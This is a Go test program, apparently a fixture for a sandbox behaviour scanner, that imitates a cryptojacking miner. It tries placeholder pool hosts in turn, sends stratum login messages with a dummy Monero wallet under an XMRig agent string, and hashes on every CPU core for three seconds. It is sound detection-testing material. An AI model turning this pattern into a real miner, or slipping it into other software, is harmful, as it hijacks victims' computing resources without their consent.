// Command miner imitates a cryptojacking payload such as XMRig: it tries
// its pools in turn (a pool host name, then a literal address, as real
// miners carry several), logs in over stratum JSON-RPC with a wallet and
// burns every CPU hashing for a few seconds.
package main

import (
	"bufio"
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"net"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/sandscan/sandscan/testdata/behaviours/internal/guard"
)

// wallet has the shape of a Monero address (95 base58 characters after
// "4") and belongs to nobody.
var wallet = "48" + strings.Repeat("SandscanTest", 8)[:93]

var pools = []string{"pool.minexmr.example:3333", "203.0.113.10:3333"}

func main() {
	guard.Require("miner")
	for _, pool := range pools {
		if err := login(pool); err != nil {
			fmt.Println("miner: pool", pool, "failed:", err)
			continue
		}
		break
	}
	hashes := burn(3 * time.Second)
	fmt.Printf("miner: %d hashes on %d threads\n", hashes, runtime.NumCPU())
}

func login(pool string) error {
	conn, err := net.DialTimeout("tcp", pool, 2*time.Second)
	if err != nil {
		return err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(2 * time.Second))
	msgs := []string{
		`{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"` + wallet + `","pass":"x","agent":"XMRig/6.21.0"}}`,
		`{"id":2,"jsonrpc":"2.0","method":"mining.subscribe","params":["XMRig/6.21.0"]}`,
	}
	for _, m := range msgs {
		if _, err := fmt.Fprintf(conn, "%s\n", m); err != nil {
			return err
		}
	}
	reply, err := bufio.NewReader(conn).ReadString('\n')
	fmt.Printf("miner: pool %s answered %q (%v)\n", pool, reply, err)
	return nil
}

// burn hashes on every CPU until d has passed.
func burn(d time.Duration) uint64 {
	var total atomic.Uint64
	var wg sync.WaitGroup
	stop := time.Now().Add(d)
	for w := range runtime.NumCPU() {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var block [48]byte // worker id, nonce, previous hash
			binary.LittleEndian.PutUint64(block[:], uint64(w))
			for nonce := uint64(1); ; nonce++ {
				binary.LittleEndian.PutUint64(block[8:], nonce)
				sum := sha256.Sum256(block[:])
				copy(block[16:], sum[:])
				if nonce%4096 == 0 && time.Now().After(stop) {
					total.Add(nonce)
					return
				}
			}
		}()
	}
	wg.Wait()
	return total.Load()
}
